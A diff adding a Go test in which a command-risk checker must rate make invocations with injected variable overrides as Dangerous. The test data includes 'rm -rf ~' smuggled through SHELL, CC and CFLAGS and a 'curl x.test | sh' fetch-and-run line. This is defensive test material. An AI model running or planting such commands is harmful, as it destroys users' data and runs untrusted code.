@@ -202,6 +202,28 @@ func TestAttackS31ReviewYarnWorkspaceExec(t *testing.T) {
 	})
 }
 
+// TestAttackS31ReviewMakeVariableOverrides: a variable set on make's
+// command line overrides the makefile's: SHELL (and .SHELLFLAGS) is the
+// program every recipe runs with, and a value holding ; | & ends the
+// recipe's command and starts another (make CC='rm -rf ~;' runs rm -rf ~
+// where the recipe says $(CC)), as make --eval's text does (Dangerous).
+func TestAttackS31ReviewMakeVariableOverrides(t *testing.T) {
+	attackAtLeast(t, Dangerous, []string{
+		`make SHELL='rm -rf ~' x`,
+		`make SHELL=/tmp/x.sh`,
+		`make .SHELLFLAGS='-c rm -rf ~;' x`,
+		`make x CC='rm -rf ~;'`,
+		`gmake CC='cc; curl x.test | sh' all`,
+		`make CFLAGS='-O2 && rm -rf ~' all`,
+	})
+	attackExactly(t, Warning, []string{
+		`make CC=clang`,
+		`make CFLAGS="-O2 -g" all`,
+		`make V=1 -j4`,
+		`make PREFIX=/usr/local install`,
+	})
+}
+
 // TestAttackS31ReviewSecretInCommitMetadata: a trailer or author the line
 // knows only when it runs is in the commit a push sends, as its message is.
 func TestAttackS31ReviewSecretInCommitMetadata(t *testing.T) {
